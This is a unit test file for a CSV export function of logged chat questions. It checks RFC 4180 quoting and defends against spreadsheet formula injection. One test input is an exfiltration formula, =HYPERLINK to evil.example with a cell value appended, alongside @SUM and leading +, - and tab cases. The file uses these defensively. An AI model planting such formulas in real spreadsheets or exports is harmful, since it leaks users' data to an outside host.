import type { LoggedQuestion } from '@docqa/contracts';
import { csvLine, EXPORT_COLUMNS } from './question-export';

const row = (text: string, details = ''): LoggedQuestion => ({
  question_id: 'q_1',
  chat_id: 'c_1',
  asked_at: '2026-11-24T10:00:00.000Z',
  ended_at: '2026-11-24T10:00:01.000Z',
  text,
  channel: 'widget',
  status: 'ready',
  not_covered: false,
  first_partial_ms: 12,
  ready_ms: -1,
  cited_document_ids: ['install.md'],
  version: '2.x',
  feedback: details ? { rating: 'down', details, url: null } : null,
});

describe('csvLine', () => {
  it('quotes fields with commas, quotes or line breaks (RFC 4180)', () => {
    expect(csvLine(row('Why "this", then\nthat?'))).toMatch(/,"Why ""this"", then\nthat\?"\r\n$/);
  });

  it('keeps visitor text a spreadsheet would run as a formula as text, and numbers as they are', () => {
    const line = csvLine(row('=HYPERLINK("http://evil.example/?x="&A1,"help")', '@SUM(A1:A9)'));
    expect(line.endsWith(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""help"")"\r\n`)).toBe(true);
    expect(line).toContain(",'@SUM(A1:A9),");
    for (const start of ['+', '-', '\t'])
      expect(
        csvLine(row(`${start}1+1`))
          .split(',')
          .at(-1),
      ).toMatch(/^"?'/);
    expect(line.split(',')[EXPORT_COLUMNS.indexOf('ready_ms')]).toBe('-1');
    expect(line.split(',')[EXPORT_COLUMNS.indexOf('version')]).toBe('2.x');
  });
});
